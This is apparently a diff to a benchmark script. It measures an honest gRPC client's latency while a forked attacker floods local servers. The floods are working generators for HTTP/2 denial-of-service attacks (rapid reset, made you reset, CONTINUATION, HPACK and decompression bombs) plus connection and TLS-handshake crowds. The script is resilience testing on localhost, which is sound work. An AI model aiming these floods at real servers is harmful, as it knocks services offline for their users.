@@ -1,15 +1,20 @@
 """How long an honest client waits while others attack, as a multiple of what it waits without them.
 
 Each server has one core. The other is shared by the honest client (h2load, one call at a time) and the attacker, which
-gets what the client leaves; a peer under the same attacks tells how much of the wait is the machine's.
+gets what the client leaves. What such company costs by itself is measured first: the same attack on somebody else, a
+sink on the attacker's own core that takes whatever comes. A peer under the same attacks tells how others fare.
 """
 
 import contextlib
+import gzip
 import multiprocessing
 import os
 import socket
+import ssl
+import subprocess
 import sys
 import tempfile
+import threading
 import time
 from pathlib import Path
 
@@ -20,10 +25,15 @@ from rpc_servers import SERVER_CORE, SERVICE, cpp_programs, fill, message
 sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "Conformance" / "Wire"))
 from frames import *  # noqa: E402
 
-SECONDS = 1.0
+CALLS = 5000
 ROUNDS = 3
-PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS)
-CALL = block(request("POST", SERVICE + "GetArticle", ("content-type", "application/grpc"), ("te", "trailers")))
+GET = SERVICE + "GetArticle"
+PREFACE = MAGIC + frame(SETTINGS)
+FIELDS = request("POST", GET, ("content-type", "application/grpc"), ("te", "trailers"))
+CALL = block(FIELDS)
+ZIPPED = block(FIELDS + [("grpc-encoding", "gzip")])
+QUESTION = b"\0\0\0\0\x0c\x0a\x0aarticles/0"
+FORK = multiprocessing.get_context("fork")
 
 
 def pieces(make, size=50):
@@ -32,83 +42,180 @@ def pieces(make, size=50):
         yield b"".join(make(index) for index in range(start, start + size))
 
 
-def reset(index):
-    stream = 2 * index + 1
-    return frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, u32(CANCEL))
+def opening(index, fields=CALL, flags=END_HEADERS):
+    return frame(HEADERS, flags, 2 * index + 1, fields)
 
 
-def provoke(index):
-    stream = 2 * index + 1
-    return frame(HEADERS, END_HEADERS, stream, CALL) + frame(WINDOW_UPDATE, 0, stream, u32(0))
+def bomb():
+    """A compressed request that comes to far more than a message may."""
+    body = gzip.compress(bytes(64 << 20))
+    body = b"\1" + u32(len(body)) + body
+    cut = [body[start : start + 16000] for start in range(0, len(body), 16000)]
+
+    def make(index):
+        frames = [frame(DATA, END_STREAM if piece is cut[-1] else 0, 2 * index + 1, piece) for piece in cut]
+        return opening(index, ZIPPED) + b"".join(frames)
+    return pieces(make, 1)
 
 
-ATTACKS = {
-    "rapid reset (CVE-2023-44487)": lambda: pieces(reset),
-    "made you reset (CVE-2025-8671)": lambda: pieces(provoke),
+# What is sent on one connection after its preface, until the server has had enough.
+FLOODS = {
+    "rapid reset (CVE-2023-44487)": lambda: pieces(
+        lambda index: opening(index) + frame(RST_STREAM, 0, 2 * index + 1, u32(CANCEL))),
+    "made you reset (CVE-2025-8671)": lambda: pieces(
+        lambda index: opening(index) + frame(WINDOW_UPDATE, 0, 2 * index + 1, u32(0))),
     "CONTINUATION flood (CVE-2024-27316)": lambda: pieces(
         lambda index: frame(CONTINUATION, 0, 1, literal("x", "y" * 500)) if index else frame(HEADERS, 0, 1, CALL)),
     "PING flood": lambda: pieces(lambda _: frame(PING, 0, 0, b"12345678")),
     "SETTINGS flood": lambda: pieces(lambda _: frame(SETTINGS)),
-    "empty DATA flood": lambda: pieces(
-        lambda index: frame(DATA, 0, 1) if index else frame(HEADERS, END_HEADERS, 1, CALL)),
+    "empty DATA flood": lambda: pieces(lambda index: frame(DATA, 0, 1) if index else opening(0)),
+    "HPACK bomb": lambda: pieces(
+        lambda index: opening(index, CALL + b"\xbe" * 12000) if index
+        else opening(0, CALL + literal("x", "y" * 3900, first=0x40))),
+    "decompression bomb": bomb,
 }
 
 
-def attack(port, name, until):
-    """Attacks on one connection after the other until the time has come."""
+def hello():
+    """The first bytes of a TLS handshake."""
+    ours = ssl.MemoryBIO()
+    context = ssl._create_unverified_context()
+    context.set_alpn_protocols(["h2"])
+    with contextlib.suppress(ssl.SSLWantReadError):
+        context.wrap_bio(ssl.MemoryBIO(), ours, server_hostname="localhost").do_handshake()
+    return ours.read()
+
+
+def handshake(connection):
+    context = ssl._create_unverified_context()
+    context.set_alpn_protocols(["h2"])
+    context.wrap_socket(connection, server_hostname="localhost").close()
+
+
+def call_once(connection):
+    connection.sendall(PREFACE + opening(0) + frame(DATA, END_STREAM, 1, QUESTION))
+    connection.recv(65536)
+
+
+# What each connection of a crowd does; then the next one comes.
+CROWDS = {
+    "crowd: connect and go": lambda connection: None,
+    "crowd: preface and go": lambda connection: connection.sendall(PREFACE),
+    "crowd: a call each": call_once,
+}
+TLS_CROWDS = {
+    "TLS crowd: ClientHello and go": lambda connection, first=hello(): connection.sendall(first),
+    "TLS crowd: a handshake each": handshake,
+}
+
+
+def stand_back():
     os.sched_setaffinity(0, {LOAD_CORE})
     os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
-    while time.monotonic() < until:
+
+
+def attack(port, name):
+    """Attacks on one connection after the other, for ever."""
+    stand_back()
+    step = {**CROWDS, **TLS_CROWDS}.get(name)
+    while True:
         with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
+            if step:
+                step(connection)
+                continue
             connection.sendall(PREFACE)
-            for piece in ATTACKS[name]():
-                if time.monotonic() >= until:
-                    break
+            for piece in FLOODS[name]():
                 connection.sendall(piece)
+
+
+def drain(connection):
+    with contextlib.suppress(OSError), connection:
+        connection.settimeout(1)
+        while connection.recv(65536):
+            pass
+
+
+def serve_sink(listener):
+    """Takes what comes and drops it."""
+    stand_back()
+    while True:
+        with contextlib.suppress(OSError):
+            threading.Thread(target=drain, args=(listener.accept()[0],), daemon=True).start()
+
+
+def certificate(scratch):
+    key, chain = scratch / "key.pem", scratch / "chain.pem"
+    subprocess.run(
+        ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "1", "-subj", "/CN=localhost",
+         "-keyout", key, "-out", chain], check=True, capture_output=True)
+    return ["--tls-cert", str(chain), "--tls-key", str(key)]
+
+
+class Target:
+    """A server under attack, and the honest client beside."""
+
+    def __init__(self, stack, command, ready, body, scheme="http"):
+        self.port = free_port()
+        command = [str(part).replace("PORT", str(self.port)) for part in command]
+        self.process = stack.enter_context(Process(command, core=SERVER_CORE, ready=ready))
+        wait_for_port(self.port)
+        self.body, self.scheme = body, scheme
+
+    def calm(self):
+        self.alone = self.waits()
+
+    def waits(self):
+        """The median and the 99th percentile of a call's time, in µs."""
+        done = load(f"127.0.0.1:{self.port}", GET, self.body, 1, 1, calls=CALLS, timed=True, scheme=self.scheme)
+        return done.percentile(0.5), done.percentile(0.99)
+
+    def beside(self, title, port):
+        """The waits while a port is under attack, as multiples: the middle of some rounds."""
+        rounds = [self._beside(title, port) for _ in range(ROUNDS)]
+        middle = (percentiles[ROUNDS // 2] for percentiles in map(sorted, zip(*rounds)))
+        return [f"{attacked / alone:.1f}" for attacked, alone in zip(middle, self.alone)]
+
+    def _beside(self, title, port):
+        attacker = FORK.Process(target=attack, args=(port, title), daemon=True)
+        attacker.start()
+        time.sleep(0.2)
+        try:
+            return self.waits()
+        finally:
+            attacker.terminate()
+            attacker.join()
+
+    def memory(self):
+        return self.process.resident_bytes() >> 20
 
 
 def run(bin_dir, _corpora):
     with tempfile.TemporaryDirectory() as scratch, contextlib.ExitStack() as stack:
         scratch = Path(scratch)
         body = message(scratch / "get", b"\x0a\x0aarticles/0")
-        servers = {}
-        for name, command, ready in [
-            ("matiane-server", [bin_dir / "matiane-server", "--data-dir", scratch / "data", "--listen",
-                                "127.0.0.1:PORT", "--threads", "1"], "serving on"),
-            ("gRPC C++", [cpp_programs() / "grpc-cpp-server", "PORT"], "serving"),
-        ]:
-            port = free_port()
-            command = [str(part).replace("PORT", str(port)) for part in command]
-            servers[name] = (port, stack.enter_context(Process(command, core=SERVER_CORE, ready=ready)))
-            wait_for_port(port)
-        fill(bin_dir, f"127.0.0.1:{servers['matiane-server'][0]}")
-        rows = []
-        calm = {name: waits(port, body) for name, (port, _) in servers.items()}
-        rows.append(["(nobody attacks)"] + [cell for name in servers for cell in (f"{calm[name][0]}", f"{calm[name][1]}")])
-        for title in ATTACKS:
-            row = [title]
-            for name, (port, _) in servers.items():
-                rounds = [under(title, port, body) for _ in range(ROUNDS)]
-                middle = (percentiles[ROUNDS // 2] for percentiles in map(sorted, zip(*rounds)))
-                row += [f"{attacked / alone:.1f}" for attacked, alone in zip(middle, calm[name])]
-            rows.append(row)
-        table("An honest client beside an attacker: µs when alone, and as a multiple of that",
-              ["attack"] + [f"{name} {part}" for name in servers for part in ("p50", "p99")], rows)
+        sink = stack.enter_context(socket.create_server(("127.0.0.1", 0), backlog=1024))
+        sinking = FORK.Process(target=serve_sink, args=(sink,), daemon=True)
+        sinking.start()
+        stack.callback(sinking.terminate)
 
+        def matiane(folder, *more):
+            return [bin_dir / "matiane-server", "--data-dir", scratch / folder, "--listen", "127.0.0.1:PORT",
+                    "--threads", "1", *more]
 
-def under(title, port, body):
-    attacker = multiprocessing.get_context("fork").Process(
-        target=attack, args=(port, title, time.monotonic() + SECONDS + 1), daemon=True)
-    attacker.start()
-    time.sleep(0.2)
-    try:
-        return waits(port, body)
-    finally:
-        attacker.terminate()
-        attacker.join()
-
-
-def waits(port, body):
-    """The median and the 99th percentile of a call's time, in µs."""
-    done = load(f"127.0.0.1:{port}", SERVICE + "GetArticle", body, 1, 1, seconds=SECONDS, timed=True)
-    return done.percentile(0.5), done.percentile(0.99)
+        plain = Target(stack, matiane("plain"), "serving on", body)
+        fill(bin_dir, f"127.0.0.1:{plain.port}")
+        peer = Target(stack, [cpp_programs() / "grpc-cpp-server", "PORT"], "serving", body)
+        # An empty archive; that an article is not found takes as long.
+        secure = Target(stack, matiane("secure", *certificate(scratch)), "serving on", body, scheme="https")
+        for target in (plain, peer, secure):
+            target.calm()
+        rows = [["(nobody attacks), µs", "", "", *plain.alone, *peer.alone, f"{plain.memory()} MiB"]]
+        for title in [*FLOODS, *CROWDS, *TLS_CROWDS]:
+            ours = secure if title in TLS_CROWDS else plain
+            control = ours.beside(title, sink.getsockname()[1])
+            attacked = ours.beside(title, ours.port)
+            other = ["", ""] if ours is secure else peer.beside(title, peer.port)
+            rows.append([title, *control, *attacked, *other, f"{ours.memory()} MiB"])
+        table("An honest client beside an attacker: its waits as multiples of those without",
+              ["attack", *(f"{name} {part}" for name in ("on a sink", "matiane-server", "gRPC C++") for part in ("p50", "p99")),
+               "memory afterwards"], rows)
